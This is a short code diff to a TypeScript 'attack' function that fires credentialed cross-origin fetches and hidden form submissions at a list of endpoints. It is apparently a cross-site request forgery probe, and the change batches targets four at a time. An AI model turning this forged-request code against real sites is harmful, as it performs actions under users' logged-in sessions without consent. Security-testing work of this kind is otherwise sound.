@@ -70,7 +70,7 @@ const attack = async ({
     tries += 1;
     return Promise.race([answered, new Promise(resolve => setTimeout(resolve, 3_000))]).then(() => frame.remove());
   };
-  for (const { method, path } of targets) {
+  const tryAll = async ({ method, path }: { method: string; path: string }) => {
     const send = (init: RequestInit) => {
       tries += 1;
       return fetch(own + path, { credentials: 'include', body, method, ...init }).then(quiet, quiet);
@@ -89,7 +89,10 @@ const attack = async ({
     const forms = method === 'POST' ? ['text/plain', 'application/x-www-form-urlencoded'] : [];
     for (const enctype of forms) await form(path, enctype);
     await form(path, 'multipart/form-data', 'get');
-  }
+  };
+  const AT_ONCE = 4;
+  for (let from = 0; from < targets.length; from += AT_ONCE)
+    await Promise.all(targets.slice(from, from + AT_ONCE).map(tryAll));
   // beacons and pictures tell nobody when they are done
   await new Promise(resolve => setTimeout(resolve, 1_000));
   return tries;
